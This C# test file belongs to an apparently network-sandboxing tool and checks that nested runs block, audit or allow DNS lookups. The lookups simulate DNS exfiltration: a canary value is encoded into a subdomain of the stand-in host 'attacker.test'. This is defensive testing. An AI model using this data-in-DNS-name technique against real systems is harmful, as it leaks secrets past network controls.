using Sallyport.Lab.Reports;

namespace Sallyport.Kernel.Tests;

/// <summary>
/// One run inside of another: both judge, and the inner one cannot allow what the outer one refuses. Over TCP the outer one
/// has led a question to its own resolver before the inner one's programs see the connection.
/// </summary>
public sealed class NestedRunTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    private string SecretName => $"{Canary}.attacker.test";

    [Theory]
    [InlineData("udp", Resolver)]
    [InlineData("tcp", Resolver)]
    [InlineData("bytes", Resolver)]
    [InlineData("tcp", Resolver6)]
    public async Task The_inner_run_refuses_a_name_that_the_outer_one_allows(string how, string resolver)
    {
        string[] ask = ["dns", "ask", resolver, SecretName, "A", how];
        var control = await Lab.RunAsync(LabMode.Block, Command(ask) with { Allow = ["*.attacker.test"] });
        Assert.True(control.Traffic.Contains(Canary), $"The outer run alone does not let it pass.\n{control}");

        var (run, inner) = await NestAsync("block", "*.attacker.test", "allowed.test", ask);

        Assert.False(run.Traffic.Contains(Canary), $"The canary arrived.\n{run}\n{inner}");
        var question = Assert.Single(inner.Dns, row => row.Name == SecretName);
        Assert.Equal(("refused", "name"), (question.Verdict, question.Reason));
        Assert.EndsWith("/dns", inner.ExeOf(question.Process), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("udp")]
    [InlineData("tcp")]
    public async Task The_inner_run_in_audit_sees_it(string how)
    {
        var (run, inner) = await NestAsync(
            "audit", "*.attacker.test", "allowed.test", "dns", "ask", Resolver, SecretName, "A", how);

        Assert.True(run.Traffic.Contains(Canary), $"Audit mode changed the outcome.\n{run}\n{inner}");
        var question = Assert.Single(inner.Dns, row => row.Name == SecretName);
        Assert.Equal(("observed", true, how), (question.Verdict, question.WouldRefuse, question.Transport));
        Assert.EndsWith("/dns", inner.ExeOf(question.Process), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("udp")]
    [InlineData("tcp")]
    public async Task The_outer_run_refuses_a_name_that_the_inner_one_allows(string how)
    {
        var (run, inner) = await NestAsync(
            "block", "allowed.test", "*.attacker.test", "dns", "ask", Resolver, SecretName, "A", how);

        Assert.False(run.Traffic.Contains(Canary), $"The canary arrived.\n{run}\n{inner}");
        Assert.Contains(run.Report.Dns, row => row.Name == SecretName && row.Verdict == "refused");
    }

    [Theory]
    [InlineData(Resolver, "tcp")]
    [InlineData(Resolver, "bytes")]
    [InlineData(Resolver6, "tcp")]
    public async Task A_name_that_both_allow_is_answered_and_leased_in_both(string resolver, string how)
    {
        var (run, inner) = await NestAsync(
            "block",
            "tcp://allowed.test:4443",
            "tcp://allowed.test:4443",
            "/bin/sh",
            "-ec",
            $"{Program("dns")} ask {resolver} allowed.test A {how}; exec {Program("tcp")} connect {Allowed} 4443 {Canary}");

        Assert.True(run.Process.ExitCode == 0, $"It was broken.\n{run}\n{inner}");
        Assert.True(run.Traffic.Contains(Canary), $"{run}\n{inner}");
        Assert.True(!run.Report.Refusals.Any() && !inner.Refusals.Any(), $"Something was refused.\n{run}\n{inner}");
        Assert.Contains(inner.Dns, row => row is { Name: "allowed.test", Verdict: "allowed", Transport: "tcp" });
    }

    private async Task<(LabRun Run, ReportView Inner)> NestAsync(
        string innerMode, string outerAllows, string innerAllows, params string[] command)
    {
        var folder = $"inner-{Canary}";
        string[] resolved = command[0].Contains('/', StringComparison.Ordinal)
            ? command : [Program(command[0]), .. command[1..]];
        var run = await Lab.RunAsync(LabMode.Block, Command([
            LabOptions.FromEnvironment().Product, "run", "--mode", innerMode, "--output", $"/run/lab/work/{folder}",
            "--cgroup-root", Lab.CgroupRoot, "--quiet", "--allow", innerAllows, "--", .. resolved]) with
        {
            Allow = [outerAllows],
            // Two agents load their programs one after the other.
            Deadline = TimeSpan.FromSeconds(60),
        });
        var report = Path.Combine(Lab.WorkFolder, folder, "report.json");
        Assert.True(File.Exists(report), $"The inner run left no report.\n{run}");
        return (run, ReportView.Read(report));
    }
}
